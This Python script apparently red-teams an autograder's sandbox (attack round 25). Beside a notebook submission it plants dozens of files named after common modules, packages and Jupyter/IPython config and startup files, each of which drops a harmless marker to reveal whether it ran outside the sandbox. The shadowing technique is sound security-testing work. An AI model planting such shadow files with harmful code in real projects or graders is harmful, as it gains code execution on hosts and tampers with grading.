"""a01 (ordinary user): re-attack round 24's fix (a `grader/` package / `signal.py` handed in ran outside or in
the sandbox's placeholder). Hand in, beside an unsolved release notebook, ~40 files named like modules and config
files that some program started in (or near) the notebook's folder might import or load: sitecustomize, usercustomize,
ipython/jupyter/nbgrader config files, runpy, psutil, nbformat, nbclient, zmq, cloudpickle, probes, helpers, torch,
traitlets, ipykernel, grader, json, tempfile, subprocess, signal, ... Each, if ever run, writes a marker in the HOST's
/tmp/attack25u-marker (only a process outside every sandbox can reach it: a sandbox's /tmp is its own) and in its own
/tmp, and prints SHADOW-RAN. The notebook's first answer cell then lists the markers its own sandbox sees (code run
at kernel start, before the submission's turn). Honest control beside it."""
import os, sys, time, glob, json, shutil
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u25 import *

MARK = "/tmp/attack25u-marker"
shutil.rmtree(MARK, ignore_errors=True)
os.makedirs(MARK); os.chmod(MARK, 0o1777)

def body(name):
    return (f"import os as _o, sys as _s\n"
            f"for _d in ({MARK!r}, '/tmp'):\n"
            f"    try:\n"
            f"        open(_d + '/SHADOW-{name}-%d-%d' % (_o.getpid(), _o.getuid()), 'w').write(repr(_s.argv) + repr(_o.getcwd()))\n"
            f"    except Exception:\n"
            f"        pass\n"
            f"_s.stderr.write('SHADOW-RAN {name}\\n')\n")

MODULES = ["sitecustomize", "usercustomize", "runpy", "psutil", "cloudpickle", "secrets", "tempfile", "subprocess",
           "signal", "shutil", "glob", "random", "ipykernel_launcher", "bwrap", "typing_extensions", "platform",
           "uuid", "socket", "selectors", "threading", "struct", "base64", "hashlib", "pickle", "copyreg"]
PACKAGES = ["nbformat", "nbclient", "nbconvert", "nbgrader", "zmq", "probes", "helpers", "torch", "traitlets",
            "ipykernel", "jupyter_client", "jupyter_core", "grader", "json", "IPython", "numpy", "autograders"]
CONFIGS = ["ipython_config.py", "ipython_kernel_config.py", "jupyter_config.py", "jupyter_nbconvert_config.py",
           "nbgrader_config.py", "jupyter_client_config.py", "jupyter_server_config.py", "jupyter_notebook_config.py"]

PROBE_CELL = r'''
import os, glob
print("SANDBOX-SEES", sorted(os.path.basename(p) for p in glob.glob("/tmp/SHADOW-*")), os.getcwd())
'''

def mallory(folder):
    nb = notebook("ps1_memory")
    for c in nb.cells:
        if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            c.source += "\n" + PROBE_CELL
            break
    nbformat.write(nb, os.path.join(folder, "ps1_memory.ipynb"))
    for m in MODULES:
        open(os.path.join(folder, m + ".py"), "w").write(body(m))
    for p in PACKAGES:
        os.makedirs(os.path.join(folder, p))
        open(os.path.join(folder, p, "__init__.py"), "w").write(body(p))
    for cfg in CONFIGS:
        open(os.path.join(folder, cfg), "w").write(body(cfg))
    os.makedirs(os.path.join(folder, ".ipython", "profile_default", "startup"))
    open(os.path.join(folder, ".ipython", "profile_default", "startup", "00-x.py"), "w").write(body("ipython-startup"))
    os.makedirs(os.path.join(folder, ".jupyter"))
    open(os.path.join(folder, ".jupyter", "jupyter_config.py"), "w").write(body("dot-jupyter-config"))

dest = course("a01", {("honest", "ps1_memory"): honest("ps1_memory"), ("mallory", "ps1_memory"): mallory})
t = time.time()
p = grade(dest, env=CANARY_ENV)
report(dest)
scores(dest)
print("HOST MARKERS (ran outside every sandbox):", sorted(os.listdir(MARK)))
for f in sorted(os.listdir(MARK)):
    print("  ", f, open(os.path.join(MARK, f)).read()[:300])
print("SHADOW-RAN lines in grader output:", sorted(set(l for l in (p.stdout + p.stderr).splitlines() if "SHADOW-RAN" in l))[:60])
nbp = os.path.join(dest, "autograded/mallory/ps1_memory/ps1_memory.ipynb")
if os.path.exists(nbp):
    for c in json.load(open(nbp))["cells"]:
        for o in c.get("outputs", []):
            s = "".join(o.get("text", "")) if isinstance(o.get("text"), (str, list)) else ""
            if "SANDBOX-SEES" in s or "SHADOW" in s:
                print("KERNEL OUTPUT:", s[:1500])
            if o.get("output_type") == "error":
                print("KERNEL ERROR:", o.get("ename"), str(o.get("evalue"))[:200])
print("wall", round(time.time() - t))
cleanup(dest); shutil.rmtree(MARK, ignore_errors=True)
